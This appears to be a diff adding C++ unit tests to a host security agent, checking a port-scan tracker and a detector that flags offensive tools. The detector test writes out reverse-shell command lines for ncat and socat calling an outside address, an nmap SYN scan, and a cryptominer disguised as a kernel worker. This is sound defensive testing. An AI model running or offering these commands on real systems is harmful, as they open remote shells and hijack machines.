@@ -244,3 +244,35 @@ TEST(Rhythm, BurstsResetAndMemoryIsBounded) {
 
 }  // namespace
 }  // namespace vigil::agent
+
+namespace vigil::agent {
+namespace {
+
+TEST(ConnectScan, ManyDistinctRefusedPortsFromOneProcessOncePerWindow) {
+  ConnectScanTracker t(20, 10, 100);
+  int reports = 0;
+  for (int port = 1; port <= 40; ++port) {
+    reports += t.observe(7, static_cast<std::uint16_t>(port), 1.0 + port * 0.01) ? 1 : 0;
+  }
+  EXPECT_EQ(reports, 1);
+  // Retries of one port are not a scan.
+  for (int i = 0; i < 50; ++i) EXPECT_FALSE(t.observe(8, 443, 1.0 + i * 0.01));
+  // Spread over more than the window: no scan.
+  for (int port = 1; port <= 25; ++port) {
+    EXPECT_FALSE(t.observe(9, static_cast<std::uint16_t>(port), port * 11.0));
+  }
+}
+
+TEST(OffensiveTools, NamesAndTelltaleArguments) {
+  EXPECT_TRUE(looks_offensive("/usr/bin/nmap", std::vector<std::string>{"nmap", "-sS"}));
+  EXPECT_TRUE(looks_offensive("/usr/bin/ncat", std::vector<std::string>{"ncat", "-e", "/bin/sh"}));
+  EXPECT_FALSE(looks_offensive("/usr/bin/ncat", std::vector<std::string>{"ncat", "-l", "8080"}));
+  EXPECT_TRUE(looks_offensive("/usr/bin/socat",
+                              std::vector<std::string>{"socat", "tcp:1.2.3.4:9", "exec:/bin/sh"}));
+  EXPECT_TRUE(looks_offensive(
+      "/tmp/kworker", std::vector<std::string>{"kworker", "-o", "stratum+tcp://pool:3333"}));
+  EXPECT_FALSE(looks_offensive("/usr/bin/grep", std::vector<std::string>{"grep", "-e", "x"}));
+}
+
+}  // namespace
+}  // namespace vigil::agent
